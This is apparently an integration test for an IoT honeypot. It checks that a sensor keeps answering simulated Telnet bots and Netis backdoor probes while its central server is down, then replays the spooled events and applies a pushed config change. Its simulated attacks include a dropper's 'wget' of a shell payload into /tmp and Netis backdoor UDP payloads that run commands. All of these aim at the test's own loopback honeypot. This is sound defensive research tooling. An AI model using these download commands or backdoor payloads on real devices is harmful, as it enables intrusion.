//! A sensor whose central dies: the central is SIGKILLed under load and
//! stays away 30 s; the sensor answers on its own meanwhile (the same
//! device: the profiles and seed the central pushed), spools what it
//! records (events, and a sample a degraded session downloaded), and
//! replays it when the central is back. The central's store then holds
//! every event of every session exactly once, counted against what the
//! attackers (real Telnet bots, 53413 datagrams) did. Then the central's
//! config changes (SIGHUP): the sensor's listeners follow, live.

mod common;
use common::*;
use std::net::{SocketAddr, TcpStream, UdpSocket};
use std::panic::AssertUnwindSafe;
use std::process::Command;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// One attacker's session, as the attacker saw it.
#[derive(Debug, Clone)]
struct Tried {
    token: String,
    start: Instant,
    end: Instant,
    ok: bool,
}

/// A bot's session: log in, `echo TOKEN`, hang up. `Err` when anything
/// on the way failed (the connection was cut...).
fn session(src: &str, face: SocketAddr, login: &(String, String), token: &str) -> bool {
    std::panic::catch_unwind(AssertUnwindSafe(|| {
        let mut bot = Bot::connect_from(src, face).ok()?;
        bot.s
            .set_read_timeout(Some(Duration::from_secs(3)))
            .unwrap();
        bot.try_until_prompt(Some("ogin")).ok()?;
        bot.send(&login.0);
        bot.try_until_prompt(Some("assword")).ok()?;
        bot.send(&login.1);
        let motd = bot.try_until_prompt(None).ok()?;
        if !motd.trim_end().ends_with('#') {
            return None;
        }
        bot.send(&format!("echo {token}"));
        let out = bot.try_until_prompt(Some(&format!("{token}\r\n"))).ok()?;
        Some(out.contains(&format!("\r\n{token}\r\n")))
    }))
    .ok()
    .flatten()
    .unwrap_or(false)
}

fn sensors_json(cfg: &std::path::Path) -> serde_json::Value {
    let out = run_ok(
        Command::new(BIN)
            .arg("--config")
            .arg(cfg)
            .args(["sensors", "--json"]),
    );
    let list: serde_json::Value = serde_json::from_str(&out).unwrap();
    list.as_array()
        .unwrap()
        .iter()
        .find(|s| s["name"] == "nagoya-1")
        .cloned()
        .unwrap_or_else(|| panic!("{list:#}"))
}

fn wait_until(what: &str, limit: Duration, mut ok: impl FnMut() -> bool, log: &Mutex<String>) {
    let deadline = Instant::now() + limit;
    while !ok() {
        assert!(
            Instant::now() < deadline,
            "{what}: not within {limit:?}\n{}",
            log.lock().unwrap()
        );
        std::thread::sleep(Duration::from_millis(200));
    }
}

/// What a device says about itself, for comparing two answers.
fn identity(src: &str, face: SocketAddr, login: &(String, String)) -> String {
    let mut bot = Bot::connect_from(src, face).unwrap();
    let motd = bot.login_ok(&login.0, &login.1);
    let said = bot.run("hostname; cat /proc/version; cat /proc/cpuinfo; busybox");
    format!("{motd}\n{said}")
}

#[test]
fn a_sensor_answers_alone_while_its_central_is_dead_and_loses_no_event() {
    let dir = TempDir::new("sensor-degraded");
    let (link, direct, face_port, new_port, web) = (
        free_port(),
        free_port(),
        free_port(),
        free_port(),
        free_port(),
    );
    let udp_port = {
        let s = UdpSocket::bind("127.0.0.6:0").unwrap();
        s.local_addr().unwrap().port()
    };
    let data = dir.0.join("data");
    let central_config = |faces: &str| {
        format!(
            "data_dir = \"{data}\"\n\
             [[listen]]\nservice = \"sensors\"\naddress = \"127.0.0.1:{link}\"\n\
             [[listen]]\nservice = \"telnet\"\naddress = \"127.0.0.1:{direct}\"\nprofile = \"dvr-xiongmai\"\n\
             [[sensor]]\nname = \"nagoya-1\"\n{faces}\
             [downloader]\nenabled = false\n",
            data = data.display()
        )
    };
    let telnet_face = format!(
        "[[sensor.listen]]\nservice = \"telnet\"\naddress = \"127.0.0.6:{face_port}\"\nprofile = \"dvr-xiongmai\"\n"
    );
    let netis_face = format!(
        "[[sensor.listen]]\nservice = \"netis\"\naddress = \"127.0.0.6:{udp_port}\"\nprofile = \"router-netis\"\n"
    );
    let root = dir.0.clone();
    let cfg = root.join("central.toml");
    std::fs::write(&cfg, central_config(&format!("{telnet_face}{netis_face}"))).unwrap();
    let iotpot = |args: &[&str]| iotpot_cmd(&cfg, args);
    pki_init(&cfg, &format!("127.0.0.1:{link}"));
    // The sensor's file as `pki sensor` printed it, with degraded-mode
    // downloads allowed to this test's own loopback web server.
    let mut sensor_file = run_ok(&mut iotpot(&["pki", "sensor", "nagoya-1"]));
    sensor_file.push_str("\n[degraded.downloader]\nallow = [\"127.0.0.0/8\"]\n");
    let sensor_cfg = root.join("nagoya-1.toml");
    std::fs::write(&sensor_cfg, sensor_file).unwrap();
    let home = root.join("nagoya-1.d");
    // A dropper's payload, served on loopback.
    let www = root.join("www");
    std::fs::create_dir_all(&www).unwrap();
    let payload = format!("#!/bin/sh\n# degraded-mode sample {}\n", std::process::id());
    std::fs::write(www.join("x.sh"), &payload).unwrap();
    let _web = http_server(&www, web);

    let start_central = |dir: TempDir| {
        let mut run = Command::new(BIN);
        run.arg("--config").arg(&cfg).arg("run");
        let mut hp = Honeypot::spawn(
            &mut run,
            format!("127.0.0.1:{direct}").parse().unwrap(),
            dir,
        );
        hp.wait_ready();
        hp
    };
    let mut hp = start_central(dir);
    let sensor = Daemon::sensor(&sensor_cfg);
    let log = sensor.log.clone();
    let face: SocketAddr = format!("127.0.0.6:{face_port}").parse().unwrap();
    wait_until(
        "the sensor's face opened",
        Duration::from_secs(15),
        || TcpStream::connect_timeout(&face, Duration::from_millis(200)).is_ok(),
        &log,
    );
    let login = profile_logins("dvr-xiongmai")[0].clone();
    let t0 = Instant::now();
    let mark = |what: &str| eprintln!("{:>6.1} s  {what}", t0.elapsed().as_secs_f64());
    mark("face open");
    let relayed_identity = identity("127.0.0.19", face, &login);
    mark("relayed identity");

    // Load: four bots from addresses of their own, session after session.
    let stop = Arc::new(AtomicBool::new(false));
    let tried = Arc::new(Mutex::new(Vec::<Tried>::new()));
    let bots: Vec<_> = (0..4)
        .map(|b| {
            let (stop, tried, login) = (stop.clone(), tried.clone(), login.clone());
            std::thread::spawn(move || {
                let src = format!("127.0.0.{}", 20 + b);
                let mut n = 0;
                while !stop.load(Ordering::Relaxed) {
                    let token = format!("tok{b}x{n}");
                    n += 1;
                    let start = Instant::now();
                    let ok = session(&src, face, &login, &token);
                    tried.lock().unwrap().push(Tried {
                        token,
                        start,
                        end: Instant::now(),
                        ok,
                    });
                    // A steady load, not all the test machine can give.
                    std::thread::sleep(Duration::from_millis(if ok { 5 } else { 100 }));
                }
            })
        })
        .collect();
    std::thread::sleep(Duration::from_secs(3));

    mark("load running");
    // SIGKILL: nothing of the central is left to say goodbye.
    let mut central = hp.child.take().unwrap();
    let killed_at = Instant::now();
    central.kill().unwrap();
    central.wait().unwrap();
    // The sensor notices (its link idles out) and answers alone.
    wait_until(
        "the sensor answering on its own",
        Duration::from_secs(15),
        || log.lock().unwrap().contains("answering on its own"),
        &log,
    );
    let degraded_at = Instant::now();
    mark("degraded");
    let degraded_identity = identity("127.0.0.19", face, &login);
    assert_eq!(
        degraded_identity, relayed_identity,
        "the device answering alone is another device"
    );
    // A dropper, in a degraded session: its sample goes into the spool.
    let mut dropper = Bot::connect_from("127.0.0.18", face).unwrap();
    dropper.login_ok(&login.0, &login.1);
    dropper.cmd(&format!("cd /tmp; wget http://127.0.0.1:{web}/x.sh"));
    drop(dropper);
    // The backdoor, alone too.
    let udp = UdpSocket::bind("127.0.0.17:0").unwrap();
    udp.set_read_timeout(Some(Duration::from_secs(3))).unwrap();
    let backdoor: SocketAddr = format!("127.0.0.6:{udp_port}").parse().unwrap();
    let ask = |payload: &[u8]| {
        udp.send_to(payload, backdoor).unwrap();
        let mut buf = [0u8; 4096];
        let (n, from) = udp.recv_from(&mut buf).expect("a degraded answer");
        assert_eq!(from, backdoor);
        buf[..n].to_vec()
    };
    ask(b"AA\0\0AAAAnetcore\0");
    let r = ask(b"AA\0\0AAAAuname -m; echo alone\0");
    assert!(r[8..].starts_with(b"mips\nalone\n"), "{r:?}");
    let spool = home.join("iotpot-spool");
    let spooled = || -> usize {
        std::fs::read_dir(spool.join("events"))
            .map(|d| d.count())
            .unwrap_or(0)
    };
    assert!(spooled() > 0, "nothing in the spool");
    mark("dropper and backdoor, alone");

    // Away 30 s in all, under load; then back, on the same store.
    std::thread::sleep(Duration::from_secs(30).saturating_sub(killed_at.elapsed()));
    let dir = std::mem::replace(&mut hp.dir, TempDir(std::path::PathBuf::new()));
    drop(hp);
    let mut hp = start_central(dir);
    let back_at = Instant::now();
    mark("central back");
    wait_until(
        "the spool replayed",
        Duration::from_secs(40),
        || {
            let s = sensors_json(&cfg);
            s["connected"] == true && s["replayed_events"].as_u64().unwrap_or(0) > 0
        },
        &log,
    );
    let reconnect = back_at.elapsed();
    mark("replayed");
    std::thread::sleep(Duration::from_secs(3));
    stop.store(true, Ordering::Relaxed);
    for b in bots {
        b.join().unwrap();
    }
    // The degraded sessions' last events reach the central too.
    wait_until(
        "the spool emptied",
        Duration::from_secs(15),
        || {
            sensors_json(&cfg)["spool_backlog"]["bytes"] == 0
                && std::fs::read_dir(spool.join("events")).map_or(0, |d| d.count()) == 0
        },
        &log,
    );

    mark("spool empty");
    // A config change, pushed live: a new face (a new device, so a new
    // listener on the central too) and the backdoor gone.
    let new_face: SocketAddr = format!("127.0.0.6:{new_port}").parse().unwrap();
    std::fs::write(
        &cfg,
        central_config(&format!(
            "{telnet_face}[[sensor.listen]]\nservice = \"telnet\"\naddress = \"{new_face}\"\nprofile = \"router-tplink\"\n"
        )),
    )
    .unwrap();
    let pid = hp.child.as_ref().unwrap().id();
    run_ok(Command::new("kill").args(["-HUP", &pid.to_string()]));
    wait_until(
        "the new face opened",
        Duration::from_secs(10),
        || TcpStream::connect_timeout(&new_face, Duration::from_millis(200)).is_ok(),
        &log,
    );
    let tplink = profile_logins("router-tplink");
    let mut bot = Bot::connect_from("127.0.0.16", new_face).unwrap();
    bot.login_ok(&tplink[0].0, &tplink[0].1);
    assert_eq!(bot.run("echo pu''shed"), "pushed\n");
    drop(bot);
    let s = sensors_json(&cfg);
    let listeners: Vec<String> = s["listeners"]
        .as_array()
        .unwrap()
        .iter()
        .map(|l| format!("{} {}", l["service"], l["address"]))
        .collect();
    assert_eq!(
        listeners,
        [
            format!("\"telnet\" \"{face}\""),
            format!("\"telnet\" \"{new_face}\"")
        ],
        "{s:#}"
    );
    udp.send_to(b"AA\0\0AAAAnetcore\0", backdoor).unwrap();
    let mut buf = [0u8; 64];
    assert!(
        udp.recv_from(&mut buf).is_err(),
        "the backdoor the config removed still answers"
    );
    std::thread::sleep(Duration::from_secs(1));
    mark("pushed");
    hp.stop();
    drop(sensor);

    // Count: every session the bots completed, exactly once.
    let db = hp.db();
    let tried = tried.lock().unwrap().clone();
    // Each token's sessions, and each session's events by kind (two
    // queries: the table holds thousands of sessions).
    let mut by_token: std::collections::HashMap<String, Vec<String>> = Default::default();
    for row in column(
        &db,
        "SELECT json_extract(data, '$.input') || ' ' || session FROM events \
         WHERE eventid = 'iotpot.command.input' AND json_extract(data, '$.input') LIKE 'echo tok%'",
    ) {
        let mut w = row.split(' ').skip(1);
        let (token, session) = (w.next().unwrap(), w.next().unwrap());
        by_token
            .entry(token.to_string())
            .or_default()
            .push(session.to_string());
    }
    let mut kinds_of: std::collections::HashMap<String, Vec<String>> = Default::default();
    for row in column(
        &db,
        "SELECT session || ' ' || eventid FROM events ORDER BY id",
    ) {
        let (session, kind) = row.split_once(' ').unwrap();
        kinds_of
            .entry(session.to_string())
            .or_default()
            .push(kind.to_string());
    }
    let count = |token: &str| by_token.get(token).cloned().unwrap_or_default();
    let (mut exact, mut cut, mut cut_stored, mut failed) = (0, 0, 0, 0);
    for t in &tried {
        let sessions = count(&t.token);
        assert!(sessions.len() <= 1, "{t:?} stored {} times", sessions.len());
        // A session that ended in the instant before the kill may have
        // died with the central's queue; every other one is there.
        let at_the_kill = t.end + Duration::from_secs(1) > killed_at && t.start < killed_at;
        if !t.ok {
            failed += 1;
            continue;
        }
        if at_the_kill {
            cut += 1;
            cut_stored += sessions.len();
            continue;
        }
        assert_eq!(sessions.len(), 1, "{t:?} is not in the central's store");
        let kinds = &kinds_of[&sessions[0]];
        for once in [
            "iotpot.session.connect",
            "iotpot.login.success",
            "iotpot.session.closed",
        ] {
            assert_eq!(
                kinds.iter().filter(|k| *k == once).count(),
                1,
                "{t:?}: {kinds:?}"
            );
        }
        exact += 1;
    }
    let degraded_sessions = tried
        .iter()
        .filter(|t| t.ok && t.start > degraded_at && t.end < back_at)
        .count();
    eprintln!(
        "sessions: {} tried, {exact} stored exactly once, {cut} ended in the second before the kill ({cut_stored} of them stored), {failed} failed \
         (cut or refused while the link was down or coming back); {degraded_sessions} answered alone; \
         the sensor went degraded {:.1} s after the kill and was back {:.1} s after the central",
        tried.len(),
        (degraded_at - killed_at).as_secs_f64(),
        reconnect.as_secs_f64()
    );
    assert!(
        degraded_sessions >= 10,
        "only {degraded_sessions} sessions answered alone"
    );
    // Once the sensor answers alone, and once the central is back, every
    // session is answered.
    let settled = |t: &&Tried| {
        (t.start > degraded_at + Duration::from_secs(1) && t.end < back_at)
            || t.start > back_at + reconnect + Duration::from_secs(1)
    };
    let lost: Vec<_> = tried.iter().filter(settled).filter(|t| !t.ok).collect();
    assert!(lost.is_empty(), "sessions not answered: {lost:?}");
    // The replayed events: the sensor's, by its certificate, from the
    // attackers' own addresses to the face.
    let replayed = column(
        &db,
        "SELECT DISTINCT src_ip || ' ' || json_extract(data, '$.dst_ip') || ':' || json_extract(data, '$.dst_port') \
         || ' ' || json_extract(data, '$.sensor') FROM events WHERE spool_id IS NOT NULL AND protocol = 'telnet'",
    );
    assert!(
        replayed.contains(&format!("127.0.0.20 {face} nagoya-1")),
        "{replayed:?}"
    );
    assert!(
        replayed
            .iter()
            .all(|r| r.ends_with(&format!("{face} nagoya-1"))),
        "{replayed:?}"
    );
    let datagrams = column(
        &db,
        "SELECT src_ip FROM events WHERE spool_id IS NOT NULL AND eventid = 'iotpot.netis.datagram'",
    );
    assert_eq!(datagrams, ["127.0.0.17", "127.0.0.17"]);
    // The degraded session's sample, on the central.
    let sha = iotpot_core::sample::sha256_hex(payload.as_bytes());
    assert_eq!(
        std::fs::read(hp.data().join("samples").join(&sha)).expect("the sample on the central"),
        payload.as_bytes()
    );
    let stored = column(
        &db,
        &format!("SELECT src_ip FROM sample_sources WHERE sha256 = '{sha}'"),
    );
    assert_eq!(stored, ["127.0.0.18"]);
    // The pushed face, on the central.
    let pushed = column(
        &db,
        &format!(
            "SELECT profile FROM sessions WHERE src_ip = '127.0.0.16' AND dst_port = {new_port}"
        ),
    );
    assert_eq!(pushed, ["router-tplink"]);
}
